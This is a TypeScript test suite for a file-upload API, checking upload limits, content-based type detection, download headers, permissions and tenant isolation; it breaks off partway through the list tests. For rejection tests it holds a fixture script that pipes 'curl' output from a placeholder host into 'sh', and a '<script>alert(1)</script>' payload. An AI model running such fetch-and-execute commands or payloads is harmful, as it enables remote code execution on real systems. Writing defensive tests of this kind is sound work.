// The files tests, run once per storage implementation (files.disk.test.ts, files.s3.test.ts): upload
// limits, types by content, sha256, thumbnails, download headers, who may upload, read and delete, and
// tenant isolation over REST and tRPC. Tasks are made with plain inserts.
import crypto from 'node:crypto';
import { Readable } from 'node:stream';
import zlib from 'node:zlib';
import type { InjectOptions } from 'fastify';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { MAX_FILE_BYTES, MAX_IMAGE_PIXELS, type TUploadedFile } from '../../../../shared/schemas/files.ts';
import { db } from '../../../db/kysely.ts';
import type { TestApp } from '../../../testing/app.ts';
import { codeOf } from '../../../testing/trpc.ts';

/* ------------------------------------------------------------------ content made here */

export async function pngBytes(width = 800, height = 600): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 200 } } })
    .png()
    .toBuffer();
}

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
/** A Windows executable's first bytes ("MZ", then the PE header pointer and stub). */
const EXE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64, 0x90),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
]);

/** A ZIP with stored (uncompressed) entries, enough for Office and OpenDocument detection. */
function zip(entries: [string, string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const data = Buffer.from(text);
    const fileName = Buffer.from(name);
    const crc = zlib.crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const DOCX = zip([
  [
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  ],
  [
    'word/document.xml',
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
  ],
]);
const XLSX = zip([
  [
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
  ],
  ['xl/workbook.xml', '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'],
]);

/** A PNG of a few hundred bytes whose header declares `width` × `height` pixels (its data is one empty row). */
function pngDeclaring(width: number, height: number): Buffer {
  const chunk = (kind: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(1 + 3 * Math.min(width, 64)))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const ODT = zip([
  ['mimetype', 'application/vnd.oasis.opendocument.text'],
  ['content.xml', '<office:document-content/>'],
]);

/** A JSON error answer: `{ message, errors? }`. */
interface ErrorBody {
  message: string;
  errors?: Record<string, string[]>;
}

const sha256 = (data: Buffer) => crypto.createHash('sha256').update(data).digest('hex');

/* ------------------------------------------------------------------ multipart bodies */

const BOUNDARY = '----opsdesk-files-test-boundary';

interface Part {
  name: string;
  value: string | Buffer;
  filename?: string;
  type?: string;
}

function multipartBody(parts: Part[]): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename !== undefined ? `; filename="${part.filename}"` : ''}`;
    const head = `--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n${part.filename !== undefined ? `Content-Type: ${part.type ?? 'application/octet-stream'}\r\n` : ''}\r\n`;
    chunks.push(
      Buffer.from(head),
      Buffer.isBuffer(part.value) ? part.value : Buffer.from(part.value),
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return Buffer.concat(chunks);
}

const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;

const TEXT_BY_NAME: Record<string, string> = { txt: 'text/plain', csv: 'text/csv' };

/** A multipart body of one `size`-byte text file, generated as it is read (never held whole). */
function bigUpload(size: number): Readable {
  const head = Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${BOUNDARY}--\r\n`);
  const line = Buffer.alloc(64 * 1024, 'a');
  let sent = 0;
  let stage = 0;
  return new Readable({
    read() {
      if (stage === 0) {
        stage = 1;
        this.push(head);
      } else if (stage === 1) {
        const n = Math.min(line.length, size - sent);
        sent += n;
        this.push(n === line.length ? line : line.subarray(0, n));
        if (sent >= size) stage = 2;
      } else if (stage === 2) {
        stage = 3;
        this.push(tail);
      } else {
        this.push(null);
      }
    },
  });
}

/* ------------------------------------------------------------------ tasks (plain inserts) */

let projectCounter = 0;

export interface TaskFixture {
  id: number;
  customerId: number;
}

/** A task of `customer`'s first location and published scheme, for `team`, assigned to `assignee`. */
async function makeTask(
  t: TestApp,
  customerCode: string,
  teamName: string,
  assigneeEmail: string | null,
  status: string,
): Promise<TaskFixture> {
  const k = db(t.orm.em.fork());
  const customer = await k
    .selectFrom('customers')
    .select('id')
    .where('code', '=', customerCode)
    .executeTakeFirstOrThrow();
  const scheme = await k
    .selectFrom('schemes')
    .select('id')
    .where('customer_id', '=', customer.id)
    .where('status', '=', 'published')
    .orderBy('id')
    .executeTakeFirstOrThrow();
  const location = await k
    .selectFrom('locations')
    .select('id')
    .where('customer_id', '=', customer.id)
    .orderBy('id')
    .executeTakeFirstOrThrow();
  const team = await k
    .selectFrom('teams')
    .select('id')
    .where('customer_id', '=', customer.id)
    .where('name', '=', teamName)
    .executeTakeFirstOrThrow();
  const assignee = assigneeEmail
    ? await k.selectFrom('users').select('id').where('email', '=', assigneeEmail).executeTakeFirstOrThrow()
    : null;
  const now = new Date();
  const stamps = { created_at: now, updated_at: now, version: 1 };
  const project = await k
    .insertInto('projects')
    .values({
      ...stamps,
      customer_id: customer.id,
      code: `FILES-${++projectCounter}`,
      name: 'Files test',
      scheme_id: scheme.id,
      start_date: '2026-01-01',
      end_date: '2026-12-31',
      status: 'active',
    } as never)
    .returning('id')
    .executeTakeFirstOrThrow();
  const assignment = await k
    .insertInto('location_assignments')
    .values({
      ...stamps,
      customer_id: customer.id,
      project_id: project.id,
      location_id: location.id,
      team_id: team.id,
      assignee_id: assignee?.id ?? null,
      planned_visits: 1,
    } as never)
    .returning('id')
    .executeTakeFirstOrThrow();
  const startsAt = new Date(now.getTime() - 3600_000);
  const endsAt = new Date(now.getTime() + 3600_000);
  const slot = await k
    .insertInto('slots')
    .values({
      ...stamps,
      customer_id: customer.id,
      assignment_id: assignment.id,
      starts_at: startsAt,
      ends_at: endsAt,
    } as never)
    .returning('id')
    .executeTakeFirstOrThrow();
  const task = await k
    .insertInto('tasks')
    .values({
      ...stamps,
      customer_id: customer.id,
      project_id: project.id,
      assignment_id: assignment.id,
      slot_id: slot.id,
      location_id: location.id,
      team_id: team.id,
      assignee_id: assignee?.id ?? null,
      scheme_id: scheme.id,
      status,
      starts_at: startsAt,
      ends_at: endsAt,
      answers: JSON.stringify([]),
      critical_failures: JSON.stringify([]),
      section_scores: JSON.stringify([]),
    } as never)
    .returning('id')
    .executeTakeFirstOrThrow();
  return { id: task.id, customerId: customer.id };
}

/* ------------------------------------------------------------------ the suite */

export function filesSuite(label: string, t: TestApp) {
  describe(`files (${label} storage)`, () => {
    let png: Buffer;
    const upload = (as: string | undefined, parts: Part[], extra: Partial<InjectOptions> = {}) =>
      t.request({
        method: 'POST',
        url: '/api/files',
        as,
        headers: { 'content-type': MULTIPART },
        payload: multipartBody(parts),
        ...extra,
      });
    // Text is sent under its text type, as a browser does; everything else as unknown bytes (decided by content).
    const file = (value: Buffer, filename: string, fields: Record<string, string> = {}, type?: string): Part[] => [
      ...Object.entries(fields).map(([name, v]) => ({ name, value: v })),
      { name: 'file', value, filename, type: type ?? TEXT_BY_NAME[/\.(\w+)$/.exec(filename)?.[1] ?? ''] },
    ];
    const uploaded = async (as: string, value: Buffer, filename: string, fields: Record<string, string> = {}) => {
      const res = await upload(as, file(value, filename, fields));
      expect(res.statusCode, res.body).toBe(201);
      return res.json<TUploadedFile>();
    };
    const get = (url: string, as?: string, headers: Record<string, string> = {}) =>
      t.request({ method: 'GET', url, as, headers });

    let lyonTask: TaskFixture; // qualitycontrol@demo.com's, in progress (Lyon: teamleader@demo.com's team)
    let scheduledTask: TaskFixture; // qualitycontrol@demo.com's, not started
    let parisTask: TaskFixture; // another team's, in progress
    let nwsTask: TaskFixture;

    beforeAll(async () => {
      png = await pngBytes();
      lyonTask = await makeTask(t, 'ACME', 'Lyon field team', 'qualitycontrol@demo.com', 'in_progress');
      scheduledTask = await makeTask(t, 'ACME', 'Lyon field team', 'qualitycontrol@demo.com', 'scheduled');
      parisTask = await makeTask(t, 'ACME', 'Paris field team', null, 'in_progress');
      nwsTask = await makeTask(t, 'NWS', 'Berlin Mitte', 'qualitycontrol@nws.demo.com', 'in_progress');
    });

    describe('upload', () => {
      it('stores an image: 201 with id, name, type, size and the sha256 of the bytes', async () => {
        const res = await upload('qualitycontrol@demo.com', file(png, 'shop-front.png'));
        expect(res.statusCode, res.body).toBe(201);
        expect(res.json<unknown>()).toEqual({
          id: expect.any(Number) as unknown,
          name: 'shop-front.png',
          mimeType: 'image/png',
          size: png.length,
          sha256: sha256(png),
        });
      });

      it('makes a WebP thumbnail of at most 320 px beside an image', async () => {
        const { id } = await uploaded('qualitycontrol@demo.com', png, 'thumb-me.png');
        for (const url of [`/api/files/${id}?thumbnail=1`, `/api/files/${id}/thumbnail`]) {
          const res = await get(url, 'qualitycontrol@demo.com');
          expect(res.statusCode, url).toBe(200);
          expect(res.headers['content-type']).toBe('image/webp');
          const meta = await sharp(res.rawPayload).metadata();
          expect(meta.format).toBe('webp');
          expect(Math.max(meta.width, meta.height)).toBe(320);
        }
        const byId = await (await t.caller('qualitycontrol@demo.com')).files.byId({ id });
        expect(byId).toMatchObject({ hasThumbnail: true, inline: true, family: 'image' });
      });

      it('decides the type from the content: a .jpg holding a PDF is stored as a PDF, without a thumbnail', async () => {
        const body = await uploaded('businessuser@demo.com', PDF, 'report.jpg');
        expect(body).toMatchObject({
          name: 'report.jpg',
          mimeType: 'application/pdf',
          size: PDF.length,
          sha256: sha256(PDF),
        });
        const res = await get(`/api/files/${body.id}`, 'businessuser@demo.com');
        expect(res.headers['content-type']).toBe('application/pdf');
        expect(res.headers['content-disposition']).toContain('filename="report.jpg.pdf"');
        expect((await get(`/api/files/${body.id}?thumbnail=1`, 'businessuser@demo.com')).statusCode).toBe(404);
      });

      it('refuses an executable renamed .png with 415 and a JSON message, and leaves nothing behind', async () => {
        const before = (await (await t.caller('admin@demo.com')).files.list({ itemsPerPage: 1 })).total;
        const res = await upload('qualitycontrol@demo.com', file(EXE, 'holiday.png'));
        expect(res.statusCode).toBe(415);
        expect(res.json<ErrorBody>().message).toMatch(/not accepted/);
        expect((await (await t.caller('admin@demo.com')).files.list({ itemsPerPage: 1 })).total).toBe(before);
      });

      it('accepts Office and OpenDocument files, CSV and UTF-8 text; refuses binary data and broken UTF-8', async () => {
        expect((await uploaded('businessuser@demo.com', DOCX, 'minutes.docx')).mimeType).toBe(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        );
        expect((await uploaded('businessuser@demo.com', ODT, 'minutes.odt')).mimeType).toBe(
          'application/vnd.oasis.opendocument.text',
        );
        expect(
          (await uploaded('businessuser@demo.com', Buffer.from('code;score\nLYON-01;92\n'), 'scores.csv')).mimeType,
        ).toBe('text/csv');
        expect(
          (await uploaded('businessuser@demo.com', Buffer.from('Relevé: façade nettoyée ✓\n'), 'notes.txt')).mimeType,
        ).toBe('text/plain');
        expect((await upload('businessuser@demo.com', file(crypto.randomBytes(4096), 'data.txt'))).statusCode).toBe(
          415,
        );
        expect(
          (await upload('businessuser@demo.com', file(Buffer.from([0x61, 0x62, 0xc3, 0x28, 0x0a]), 'broken.txt')))
            .statusCode,
        ).toBe(415);
        expect((await upload('businessuser@demo.com', file(Buffer.from('a\0b'), 'nul.txt'))).statusCode).toBe(415);
      });

      it('takes text only as .txt or .csv sent with a text type; a script is refused whatever it is called', async () => {
        const script = Buffer.from('#!/bin/sh\ncurl https://example.test/x | sh\n');
        for (const [name, type] of [
          ['run.sh', 'application/x-sh'],
          ['run.sh', 'text/plain'],
          ['notes.txt', 'application/x-sh'],
          ['notes.txt', 'application/octet-stream'],
          ['page.html', 'text/html'],
          ['scores.csv', 'application/x-sh'],
        ]) {
          const res = await upload('businessuser@demo.com', file(script, name, {}, type));
          expect(res.statusCode, `${name} as ${type}`).toBe(415);
          expect(res.json<ErrorBody>().errors?.file).toEqual(['This type of file is not accepted']);
        }
        expect((await upload('businessuser@demo.com', file(script, 'run.sh'))).json<ErrorBody>().message).toMatch(
          /\(application\/octet-stream\) are not accepted/,
        );
        // CSV as browsers send it, Windows' Excel type included; XLSX by its content whatever its type.
        const csv = Buffer.from('code;score\nLYON-01;92\n');
        for (const type of ['text/csv', 'text/csv; charset=utf-8', 'application/vnd.ms-excel', 'text/plain']) {
          const res = await upload('businessuser@demo.com', file(csv, 'scores.CSV', {}, type));
          expect(res.statusCode, type).toBe(201);
          expect(res.json<TUploadedFile>().mimeType).toBe('text/csv');
        }
        const xlsx = await upload('businessuser@demo.com', file(XLSX, 'scores.xlsx', {}, 'application/octet-stream'));
        expect(xlsx.statusCode, xlsx.body).toBe(201);
        expect(xlsx.json<TUploadedFile>().mimeType).toBe(
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        );
      });

      it('refuses an image declaring more than the pixel limit from its header, 413 naming the file field', async () => {
        const before = (await (await t.caller('admin@demo.com')).files.list({ itemsPerPage: 1 })).total;
        const huge = pngDeclaring(60_000, 60_000);
        expect(huge.length).toBeLessThan(1024);
        const res = await upload('qualitycontrol@demo.com', file(huge, 'huge.png'));
        expect(res.statusCode).toBe(413);
        expect(res.json<ErrorBody>()).toEqual({
          message: `The image is 60000 × 60000 pixels: images may have at most ${MAX_IMAGE_PIXELS / 1_000_000} megapixels`,
          errors: { file: [`Images may have at most ${MAX_IMAGE_PIXELS / 1_000_000} megapixels`] },
        });
        expect((await (await t.caller('admin@demo.com')).files.list({ itemsPerPage: 1 })).total).toBe(before);
        // Just over the limit too; a photo of a phone's size is taken (the other tests upload them).
        expect(
          (await upload('qualitycontrol@demo.com', file(pngDeclaring(10_001, 10_000), 'over.png'))).statusCode,
        ).toBe(413);
      });

      it('keeps a UTF-8 name and sends it back with an RFC 5987 filename*', async () => {
        const { id, name } = await uploaded('qualitycontrol@demo.com', png, 'Façade été.png');
        expect(name).toBe('Façade été.png');
        const res = await get(`/api/files/${id}`, 'qualitycontrol@demo.com');
        expect(res.headers['content-disposition']).toBe(
          `attachment; filename="Facade ete.png"; filename*=UTF-8''Fa%C3%A7ade%20%C3%A9t%C3%A9.png`,
        );
      });

      it('answers 413 with a JSON message for 25 MB + 1 byte sent as a stream, and accepts exactly 25 MB', async () => {
        const over = await t.request({
          method: 'POST',
          url: '/api/files',
          as: 'businessuser@demo.com',
          headers: { 'content-type': MULTIPART },
          payload: bigUpload(MAX_FILE_BYTES + 1),
        });
        expect(over.statusCode).toBe(413);
        expect(over.json<ErrorBody>().message).toMatch(/larger than 25 MB/);
        const exact = await t.request({
          method: 'POST',
          url: '/api/files',
          as: 'businessuser@demo.com',
          headers: { 'content-type': MULTIPART },
          payload: bigUpload(MAX_FILE_BYTES),
        });
        expect(exact.statusCode, exact.body).toBe(201);
        expect(exact.json()).toMatchObject({
          size: MAX_FILE_BYTES,
          mimeType: 'text/plain',
          sha256: sha256(Buffer.alloc(MAX_FILE_BYTES, 'a')),
        });
      });

      it('answers 413 at once when the declared length is far over the limit', async () => {
        const res = await t.request({
          method: 'POST',
          url: '/api/files',
          as: 'businessuser@demo.com',
          headers: { 'content-type': MULTIPART, 'content-length': String(MAX_FILE_BYTES * 2) },
          payload: '',
        });
        expect(res.statusCode).toBe(413);
        expect(res.json<ErrorBody>().message).toMatch(/25 MB/);
      });

      it('says what is wrong with the form: no file, a second file, bad fields, not multipart, empty file', async () => {
        const noFile = await upload('businessuser@demo.com', [{ name: 'taskId', value: '1' }]);
        expect(noFile.statusCode).toBe(400);
        expect(noFile.json<ErrorBody>().errors?.file).toBeDefined();
        const two = await upload('businessuser@demo.com', [
          ...file(png, 'a.png'),
          { name: 'file', value: png, filename: 'b.png' },
        ]);
        expect(two.statusCode).toBe(400);
        const badTask = await upload('businessuser@demo.com', file(png, 'a.png', { taskId: 'abc' }));
        expect(badTask.statusCode).toBe(400);
        expect(badTask.json<ErrorBody>().errors?.taskId).toBeDefined();
        const keyWithoutTask = await upload('businessuser@demo.com', file(png, 'a.png', { questionKey: 'q1' }));
        expect(keyWithoutTask.statusCode).toBe(400);
        expect(keyWithoutTask.json<ErrorBody>().errors?.questionKey).toBeDefined();
        const json = await t.request({
          method: 'POST',
          url: '/api/files',
          as: 'businessuser@demo.com',
          payload: { file: 'x' },
        });
        expect(json.statusCode).toBe(415);
        expect(json.json<ErrorBody>().message).toMatch(/multipart\/form-data/);
        const empty = await upload('businessuser@demo.com', file(Buffer.alloc(0), 'empty.txt'));
        expect(empty.statusCode).toBe(400);
        expect(empty.json<ErrorBody>().message).toMatch(/empty/);
      });
    });

    describe('who may upload', () => {
      it('needs a signed-in caller (401) and the upload right (403 for analyst and client)', async () => {
        expect((await upload(undefined, file(png, 'a.png'))).statusCode).toBe(401);
        expect((await upload('analyst@demo.com', file(png, 'a.png'))).statusCode).toBe(403);
        expect((await upload('client@demo.com', file(png, 'a.png'))).statusCode).toBe(403);
      });

      it('takes the session cookie with the XSRF header, and refuses the cookie without it', async () => {
        const login = await t.request({
          method: 'POST',
          url: '/api/auth/login',
          payload: { email: 'floormanager@demo.com', password: 'floormanager' },
        });
        const cookies = Object.fromEntries(login.cookies.map((c) => [c.name, c.value]));
        const cookie = Object.entries(cookies)
          .map(([k, v]) => `${k}=${v}`)
          .join('; ');
        const without = await upload(undefined, file(png, 'a.png'), { headers: { 'content-type': MULTIPART, cookie } });
        expect(without.statusCode).toBe(403);
        const withToken = await upload(undefined, file(png, 'a.png'), {
          headers: { 'content-type': MULTIPART, cookie, 'x-xsrf-token': cookies['XSRF-TOKEN'] },
        });
        expect(withToken.statusCode, withToken.body).toBe(201);
      });

      it('lets qualitycontrol add files only to its own task while in progress or sent back', async () => {
        const own = await uploaded('qualitycontrol@demo.com', png, 'evidence.png', {
          taskId: String(lyonTask.id),
          questionKey: 'q-front',
        });
        const detail = await (await t.caller('qualitycontrol@demo.com')).files.byId({ id: own.id });
        expect(detail).toMatchObject({
          taskId: lyonTask.id,
          questionKey: 'q-front',
          linked: { type: 'task', id: lyonTask.id },
        });
        expect(detail.linked?.label).toMatch(new RegExp(`#${lyonTask.id}$`));
        // A file answering a question of the task's scheme says the question's text, not its key.
        const question = await db(t.orm.em.fork())
          .selectFrom('tasks as t')
          .innerJoin('scheme_questions as q', 'q.scheme_id', 't.scheme_id')
          .select(['q.key', 'q.text'])
          .where('t.id', '=', lyonTask.id)
          .orderBy('q.position')
          .executeTakeFirstOrThrow();
        const answering = await uploaded('qualitycontrol@demo.com', png, 'answer.png', {
          taskId: String(lyonTask.id),
          questionKey: question.key,
        });
        const inspector = await t.caller('qualitycontrol@demo.com');
        expect((await inspector.files.byId({ id: answering.id })).questionText).toBe(question.text);
        expect(detail.questionText).toBeNull(); // 'q-front' is no question of the scheme
        const notStarted = await upload(
          'qualitycontrol@demo.com',
          file(png, 'early.png', { taskId: String(scheduledTask.id) }),
        );
        expect(notStarted.statusCode).toBe(403);
        expect(notStarted.json<ErrorBody>().message).toMatch(/in progress or sent back/);
        expect(
          (await upload('qualitycontrol@demo.com', file(png, 'x.png', { taskId: String(parisTask.id) }))).statusCode,
        ).toBe(404);
      });

      it('stores one file per client id: a replayed or doubled upload answers with the first file', async () => {
        const fields = { taskId: String(lyonTask.id), questionKey: 'q-replay', clientId: `outbox-${lyonTask.id}-1` };
        const first = await uploaded('qualitycontrol@demo.com', png, 'replay.png', fields);
        const again = await uploaded('qualitycontrol@demo.com', png, 'replay.png', fields);
        expect(again).toEqual(first);
        const both = await Promise.all(
          [1, 2].map(() =>
            uploaded('qualitycontrol@demo.com', png, 'twice.png', { ...fields, clientId: `outbox-${lyonTask.id}-2` }),
          ),
        );
        expect(both[0]).toEqual(both[1]);
        const rows = await db(t.orm.em.fork())
          .selectFrom('files')
          .select(['id', 'client_id'])
          .where('task_id', '=', lyonTask.id)
          .where('question_key', '=', 'q-replay')
          .execute();
        expect(rows.map((r) => r.id).sort()).toEqual([first.id, both[0].id].sort());
        // Another uploader's same client id is their own upload.
        const lead = await uploaded('teamleader@demo.com', png, 'replay.png', fields);
        expect(lead.id).not.toBe(first.id);
      });

      it("lets team roles add files to the tasks they may read: teamleader its team's, not another team's", async () => {
        expect(
          (await upload('teamleader@demo.com', file(png, 'lead.png', { taskId: String(lyonTask.id) }))).statusCode,
        ).toBe(201);
        expect(
          (await upload('teamleader@demo.com', file(png, 'lead.png', { taskId: String(parisTask.id) }))).statusCode,
        ).toBe(404);
        expect(
          (await upload('floormanager@demo.com', file(png, 'floor.png', { taskId: String(parisTask.id) }))).statusCode,
        ).toBe(201);
        expect(
          (await upload('admin@demo.com', file(png, 'admin.png', { taskId: String(scheduledTask.id) }))).statusCode,
        ).toBe(201);
      });

      it("answers 404 for another customer's task, and the platform operator must name a task", async () => {
        const res = await upload('admin@nws.demo.com', file(png, 'evil.png', { taskId: String(lyonTask.id) }));
        expect(res.statusCode).toBe(404);
        expect(res.json<ErrorBody>().message).toBe('Task not found');
        expect((await upload('admin@demo.com', file(png, 'evil.png', { taskId: String(nwsTask.id) }))).statusCode).toBe(
          404,
        );
        expect((await upload('superadmin@demo.com', file(png, 'platform.png'))).statusCode).toBe(400);
        const forNws = await uploaded('superadmin@demo.com', png, 'platform.png', { taskId: String(nwsTask.id) });
        expect((await (await t.caller('superadmin@demo.com')).files.byId({ id: forNws.id })).customerId).toBe(
          nwsTask.customerId,
        );
      });
    });

    describe('download', () => {
      it('sends the stored bytes with their type, an attachment disposition and nosniff', async () => {
        const { id } = await uploaded('qualitycontrol@demo.com', png, 'download.png');
        const res = await get(`/api/files/${id}`, 'qualitycontrol@demo.com');
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-type']).toBe('image/png');
        expect(res.headers['content-disposition']).toBe(
          `attachment; filename="download.png"; filename*=UTF-8''download.png`,
        );
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(Number(res.headers['content-length'])).toBe(png.length);
        expect(sha256(res.rawPayload)).toBe(sha256(png));
        const again = await get(`/api/files/${id}`, 'qualitycontrol@demo.com', {
          'if-none-match': String(res.headers.etag),
        });
        expect(again.statusCode).toBe(304);
      });

      it('shows images and PDFs inline on request, framable by the app only; other types stay attachments', async () => {
        const image = await uploaded('businessuser@demo.com', png, 'inline.png');
        const inline = await get(`/api/files/${image.id}?inline=1`, 'businessuser@demo.com');
        expect(inline.headers['content-disposition']).toMatch(/^inline; /);
        expect(inline.headers['content-security-policy']).toContain("frame-ancestors 'self'");
        expect(inline.headers['x-frame-options']).toBe('SAMEORIGIN');
        const pdf = await uploaded('businessuser@demo.com', PDF, 'inline.pdf');
        expect(
          (await get(`/api/files/${pdf.id}?inline=1`, 'businessuser@demo.com')).headers['content-disposition'],
        ).toMatch(/^inline; /);
        const text = await uploaded('businessuser@demo.com', Buffer.from('<script>alert(1)</script>'), 'page.txt');
        const asText = await get(`/api/files/${text.id}?inline=1`, 'businessuser@demo.com');
        expect(asText.headers['content-type']).toMatch(/^text\/plain/);
        expect(asText.headers['content-disposition']).toMatch(/^attachment; /);
        expect(asText.headers['x-frame-options']).toBe('DENY');
      });

      it('answers 404 to callers who may not read the file, whichever customer they are of', async () => {
        const unlinked = await uploaded('businessuser@demo.com', png, 'office.png');
        const paris = await uploaded('floormanager@demo.com', png, 'paris.png', { taskId: String(parisTask.id) });
        const lyon = await uploaded('teamleader@demo.com', png, 'lyon.png', { taskId: String(lyonTask.id) });
        const cases: [number, string, number][] = [
          [unlinked.id, 'qualitycontrol@demo.com', 404], // not theirs, of no task
          [unlinked.id, 'analyst@demo.com', 200],
          [unlinked.id, 'teamleader@demo.com', 200],
          [unlinked.id, 'admin@nws.demo.com', 404],
          [unlinked.id, 'qualitycontrol@nws.demo.com', 404],
          [unlinked.id, 'superadmin@demo.com', 200],
          [paris.id, 'teamleader@demo.com', 404], // another team's task
          [paris.id, 'qualitycontrol@demo.com', 404],
          [paris.id, 'businessuser@demo.com', 200],
          [lyon.id, 'qualitycontrol@demo.com', 200], // a file of their own task, uploaded by their leader
          [lyon.id, 'admin@nws.demo.com', 404],
          [lyon.id, 'client@demo.com', 403],
        ];
        for (const [id, as, status] of cases) {
          expect((await get(`/api/files/${id}`, as)).statusCode, `${as} GET ${id}`).toBe(status);
          if (status === 404)
            expect((await get(`/api/files/${id}?thumbnail=1`, as)).statusCode, `${as} thumbnail ${id}`).toBe(404);
        }
        expect((await get(`/api/files/${unlinked.id}`)).statusCode).toBe(401);
        expect((await get('/api/files/999999', 'admin@demo.com')).statusCode).toBe(404);
        expect((await get('/api/files/abc', 'admin@demo.com')).statusCode).toBe(400);
      });
    });

    describe('list', () => {
      it("lists only what the caller may read, with exact totals, and never another customer's files", async () => {
        const nws = await uploaded('qualitycontrol@nws.demo.com', png, 'berlin.png');
        const acmeOffice = await uploaded('businessuser@demo.com', png, 'acme-only.png');
        const admin = await t.caller('admin@demo.com');
        const all = await admin.files.list({ itemsPerPage: -1 });
        expect(all.total).toBe(all.items.length);
        expect(all.items.map((f) => f.id)).toContain(acmeOffice.id);
        expect(all.items.map((f) => f.id)).not.toContain(nws.id);
        expect(all.items.every((f) => f.customerId !== nwsTask.customerId)).toBe(true);
        expect((await admin.files.list({ customerId: nwsTask.customerId })).total).toBe(0);
        const qc = await t.caller('qualitycontrol@demo.com');
        const mine = await qc.files.list({ itemsPerPage: -1 });
        const me = (await qc.auth.me()).userData.id;
        // Their own uploads and the files of their tasks, nothing else.
        expect(mine.items.length).toBeGreaterThan(0);
        for (const f of mine.items)
          expect(f.owner.id === me || f.taskId === lyonTask.id || f.taskId === scheduledTask.id, f.name).toBe(true);
        expect(mine.items.some((f) => f.owner.id !== me && f.taskId === lyonTask.id)).toBe(true);
        const nwsAdmin = await t.caller('admin@nws.demo.com');
        const seenByNws = (await nwsAdmin.files.list({ itemsPerPage: -1 })).items;
        expect(seenByNws.map((f) => f.id)).toContain(nws.id);
        expect(seenByNws.every((f) => f.customerId === nwsTask.customerId)).toBe(true);
      });

      it('filters by name, type family, task, uploader and date, sorts and pages in SQL', async () => {
        const a = await t.caller('analyst@demo.com');
        const byName = await a.files.list({ q: 'acme-only' });
        expect(byName.items.map((f) => f.name)).toEqual(['acme-only.png']);
        const pdfs = await a.files.list({ family: 'pdf', itemsPerPage: -1 });
        expect(pdfs.items.length).toBeGreaterThan(0);
        expect(pdfs.items.every((f) => f.mimeType === 'application/pdf')).toBe(true);
        const docs = await a.files.list({ family: 'document', itemsPerPage: -1 });
        expect(docs.items.map((f) => f.mimeType)).toContain('text/csv');
        const lyon = await a.files.list({ taskId: lyonTask.id, itemsPerPage: -1 });
        expect(lyon.items.every((f) => f.taskId === lyonTask.id && f.linked?.type === 'task')).toBe(true);
        const teamleader = (await (await t.caller('teamleader@demo.com')).auth.me()).userData.id;
        const byOwner = await a.files.list({ ownerId: teamleader, itemsPerPage: -1 });
        expect(byOwner.items.length).toBeGreaterThan(0);
        expect(byOwner.items.every((f) => f.owner.id === teamleader && f.owner.name === 'Tomasz Lewandowski')).toBe(
          true,
        );
